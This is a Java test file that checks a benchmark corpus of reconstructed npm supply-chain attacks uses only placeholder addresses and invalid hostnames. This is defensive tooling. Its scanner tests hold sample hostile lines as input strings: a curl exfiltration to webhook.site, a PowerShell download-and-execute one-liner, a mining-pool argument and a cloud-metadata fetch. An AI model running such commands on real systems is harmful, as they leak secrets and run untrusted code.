package dev.warden.review.eval;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * The malicious corpus stays inert and complete. Nothing here runs a reconstruction: files are read
 * as text and packed in memory.
 */
class AttackCorpusTest {

    private static final Path ATTACKS = Path.of("..", "bench", "review", "attacks");
    private static final Path HOLDOUT = Path.of("..", "bench", "review", "holdout");
    private static final ObjectMapper JSON = new ObjectMapper();

    private final List<String> violations = new ArrayList<>();

    @Test
    void everyReconstructionNamesOnlyTestNetAddressesAndInvalidHosts() throws IOException {
        assertThat(files(ATTACKS, violations)).isGreaterThan(60);
        assertThat(violations).isEmpty();
    }

    @Test
    void everyHeldOutReconstructionNamesOnlyTestNetAddressesAndInvalidHosts() throws IOException {
        assertThat(files(HOLDOUT, violations)).isGreaterThan(20);
        assertThat(violations).isEmpty();
    }

    /** Scans every file of a corpus but the write-ups; returns how many files it read. */
    private static int files(Path corpus, List<String> violations) throws IOException {
        int files = 0;
        try (Stream<Path> walk = Files.walk(corpus)) {
            for (Path file : walk.filter(Files::isRegularFile).sorted().toList()) {
                // An attack's README cites the public write-up it follows: documentation, not
                // payload.
                if (file.getFileName().toString().equals("README.md")
                        && file.getParent().getParent().equals(corpus)) {
                    continue;
                }
                files++;
                String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
                for (String v : InertScan.violations(text)) {
                    violations.add(corpus.relativize(file) + ": " + v);
                }
            }
        }
        return files;
    }

    @Test
    void scanFlagsPublicAddresses() {
        assertThat(InertScan.violations("http.get('http://159.148.186.228/download/x')"))
                .anyMatch(v -> v.contains("address 159.148.186.228"));
        assertThat(InertScan.violations("fetch('http://169.254.169.254/latest/meta-data/')"))
                .anyMatch(v -> v.contains("169.254.169.254"));
    }

    @Test
    void scanFlagsRealHostsInUrlsBareNamesAndHostPaths() {
        assertThat(InertScan.violations("curl -d \"$X\" https://webhook.site/bb8ca5f6"))
                .anyMatch(v -> v.contains("host webhook.site"));
        assertThat(InertScan.violations("hostname: 'api.github.com',"))
                .anyMatch(v -> v.contains("host api.github.com"));
        assertThat(InertScan.violations("irm bun.sh/install.ps1|iex"))
                .anyMatch(v -> v.contains("host bun.sh"));
        assertThat(InertScan.violations("-o pool.minexmr.org:443"))
                .anyMatch(v -> v.contains("host pool.minexmr.org"));
    }

    @Test
    void scanAcceptsTestNetAddressesInvalidHostsAndFileNames() {
        assertThat(
                        InertScan.violations(
                                "http://198.51.100.228/download/jsextension 203.0.113.72"
                                        + " 192.0.2.254 https://webhook.site.invalid/x irm"
                                        + " bun.sh.invalid/install.ps1 node bundle.js; bash"
                                        + " preinstall.sh; ./lib/build.js"
                                        + " pool.supportxmr.com.invalid:3333 version 1.95.6"))
                .isEmpty();
    }

    @Test
    void everyAttackIsAReleaseFollowingABenignVersionAndCitesItsWriteUp() throws IOException {
        assertWellFormed(ATTACKS, 15);
    }

    @Test
    void everyHeldOutAttackIsAReleaseFollowingABenignVersionAndCitesItsWriteUp()
            throws IOException {
        assertWellFormed(HOLDOUT, 8);
        try (Stream<Path> held = Files.list(HOLDOUT);
                Stream<Path> tuned = Files.list(ATTACKS)) {
            List<String> tunedNames = tuned.map(p -> p.getFileName().toString()).toList();
            assertThat(held.map(p -> p.getFileName().toString()))
                    .as("held-out attacks are not in the tuned corpus")
                    .doesNotContainAnyElementsOf(tunedNames);
        }
    }

    private static void assertWellFormed(Path corpus, int atLeast) throws IOException {
        List<Path> attacks;
        try (Stream<Path> list = Files.list(corpus)) {
            attacks = list.filter(Files::isDirectory).sorted().toList();
        }
        assertThat(attacks).hasSizeGreaterThanOrEqualTo(atLeast);
        for (Path attack : attacks) {
            String readme = Files.readString(attack.resolve("README.md"));
            assertThat(readme)
                    .as(attack + " cites a write-up")
                    .containsPattern("Follows: https://");
            JsonNode previous = JSON.readTree(attack.resolve("previous/package.json").toFile());
            JsonNode release = JSON.readTree(attack.resolve("release/package.json").toFile());
            assertThat(release.path("name").asText())
                    .as(attack + " is a release of the same package")
                    .isEqualTo(previous.path("name").asText());
            assertThat(release.path("version").asText())
                    .as(attack + " is a new version")
                    .isNotEqualTo(previous.path("version").asText());
            assertThat(attack.resolve("attack.json")).exists();
        }
        List<Release> loaded = AttackCorpus.load(corpus);
        assertThat(loaded).hasSameSizeAs(attacks);
        assertThat(loaded).allMatch(r -> r.unpackedBytes() > 0 && r.subject().previous() != null);
    }
}
